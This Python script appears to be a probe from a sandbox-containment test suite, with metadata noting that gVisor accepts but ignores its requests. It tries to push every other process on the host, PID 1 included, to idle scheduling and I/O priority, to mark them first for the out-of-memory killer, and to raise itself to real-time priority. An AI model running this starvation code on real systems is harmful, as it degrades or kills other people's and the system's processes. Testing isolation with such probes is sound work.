#: family = "signals"
#: idea = "Gives others the worst place in the scheduler and itself the best; the kernel is to take their memory first."
#: ends = ["exited"]
#: says = "tried"
#: still_works = { gvisor = "takes any priority that it is asked for, and heeds none" }
import ctypes
import os

libc = ctypes.CDLL(None)
for pid in {1, os.getppid(), *(int(name) for name in os.listdir("/proc") if name.isdigit())}:
    if pid in (0, os.getpid()):
        continue
    for attempt in (
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(pid, {0}),
        lambda: libc.syscall(251, 1, pid, 3 << 13),
    ):
        try:
            attempt()
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write("1000")
    except OSError:
        pass
for attempt in (
    lambda: os.nice(-20),
    lambda: os.setpriority(os.PRIO_USER, 0, -20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
    lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(99)),
):
    try:
        attempt()
        print("ESCAPED: goes before all others")
    except OSError:
        pass
print("tried")
